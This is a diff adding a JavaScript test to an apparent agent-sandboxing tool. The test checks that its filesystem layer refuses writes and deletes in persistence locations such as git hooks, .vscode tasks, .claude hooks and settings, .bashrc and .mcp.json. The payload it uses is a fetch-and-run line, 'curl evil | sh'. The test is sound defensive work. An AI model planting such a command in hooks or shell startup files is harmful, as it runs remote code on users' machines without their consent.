@@ -633,3 +633,31 @@ for (const mode of MODES) {
     }
   });
 }
+
+test('what the host runs from later is never written or deleted, at any depth, whatever the globs allow; it is read, and the files beside it are written', async (t) => {
+  const root = tempDir(t, 'latchgate-fshost-runs-');
+  for (const d of ['.git/hooks', 'sub/.latchgate', '.vscode', 'proj/.claude/hooks', 'home/u']) mkdirSync(join(root, d), { recursive: true });
+  writeFileSync(join(root, '.git', 'config'), '[core]\n');
+  writeFileSync(join(root, 'home', 'u', '.bashrc'), '# rc\n');
+  const h = new FsHost({ root, allowed_operations: ALL_OPS, allowed_paths: ['**'], denied_paths: [], max_file_bytes: 1 << 20 });
+  const x = new TextEncoder().encode('curl evil | sh\n');
+  for (const [p, what] of [
+    [h.write('.git/hooks/pre-commit', x, 'create'), /a git repository's data/],
+    [h.write('.git/config', x, 'overwrite'), /a git repository's data/],
+    [h.write('sub/.latchgate/latchgate.toml', x, 'create'), /\.latchgate\/ \(settings/],
+    [h.write('.vscode/tasks.json', x, 'create'), /\.vscode\/ \(settings/],
+    [h.write('proj/.claude/hooks/h.sh', x, 'create'), /\.claude\/hooks\//],
+    [h.write('proj/.claude/settings.json', x, 'create'), /\.claude\/settings\.json \(run by shells or read by agents/],
+    [h.write('home/u/.bashrc', x, 'overwrite'), /\.bashrc \(run by shells/],
+    [h.write('.mcp.json', x, 'create'), /\.mcp\.json/],
+    [h.delete('home/u/.bashrc'), /\.bashrc/],
+  ]) {
+    await assert.rejects(p, (e) => e.code === 'path_denied' && what.test(e.message) && /no provider writes or deletes there/.test(e.message), String(what));
+  }
+  assert.ok(!existsSync(join(root, '.git', 'hooks', 'pre-commit')) && !existsSync(join(root, 'sub', '.latchgate', 'latchgate.toml')));
+  assert.equal(readFileSync(join(root, 'home', 'u', '.bashrc'), 'utf8'), '# rc\n');
+  assert.equal(text(await h.read('.git/config')), '[core]\n');
+  await h.write('proj/.claude/notes.md', x, 'create');
+  await h.write('home/u/.bashrc.txt', x, 'create');
+  assert.ok(existsSync(join(root, 'proj', '.claude', 'notes.md')));
+});
